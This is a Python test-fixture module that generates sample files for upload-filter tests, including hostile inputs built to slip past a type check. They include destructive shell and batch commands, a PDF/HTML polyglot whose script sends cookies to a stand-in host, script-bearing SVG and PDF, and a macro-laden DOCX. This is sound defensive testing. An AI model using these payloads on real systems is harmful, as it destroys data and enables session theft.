"""Small real files of each type, generated in memory for the upload tests."""

import io
import zipfile

from PIL import Image


def pdf_bytes(text: str = "Bonjour les musées") -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def image_bytes(fmt: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


def docx_bytes(text: str = "Procédure de prêt") -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(text: str = "Inventaire") -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active["A1"] = text
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odt_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
    return buffer.getvalue()


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "des notes")
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64
SHELL = b"#!/bin/sh\nrm -rf /\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SVG_PLAIN = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
TEXT = "Compte rendu de la journée professionnelle à Rodez.\n".encode()
LATIN1_TEXT = "Journée d'étude à Albi, musée Toulouse-Lautrec.\n".encode("latin-1")
CSV = b"nom;ville;departement\nMusee Fabre;Montpellier;34\nMusee Soulages;Rodez;12\n"


# -- files built to slip past a type filter (audit item 4) ---------------------------------------

# A PDF reader finds "%PDF-" in the first 1024 bytes; a browser sees an HTML page.
PDF_COMMENT_HTML = (
    b"<!-- %PDF-1.4 -->\n<html><body><h1>Facture</h1>"
    b"<script>document.location='https://exemple.invalid/?c='+document.cookie</script>"
    b"</body></html>\n"
)
# A real PDF start, then markup a browser would run.
PDF_THEN_SCRIPT = b"%PDF-1.4\n<script>alert(document.domain)</script>\n%%EOF\n"
BATCH = b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n"


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_macros() -> bytes:
    """A Word document carrying a VBA project (what Word saves as .docm), named .docx."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes("Procédure")))
    members = {info.filename: source.read(info) for info in source.infolist()}
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
    return _zip(members)


def zip_with(name: str, data: bytes) -> bytes:
    return _zip({"lisez-moi.txt": b"Photos de l'exposition", name: data})


def zip_in_zip(name: str, data: bytes) -> bytes:
    return _zip({"lisez-moi.txt": b"Archives", "dossier.zip": zip_with(name, data)})


def zip_of_word_documents() -> bytes:
    return _zip({"prets/convention.docx": docx_bytes("Convention de prêt"), "notes.txt": TEXT})


def encrypted_zip() -> bytes:
    """An archive whose member says it is password-protected (bit 0 of its flags)."""
    data = bytearray(_zip({"secret.txt": b"ne pas ouvrir"}))
    data[6] |= 0x1  # local file header
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 0x1  # central directory entry
    return bytes(data)
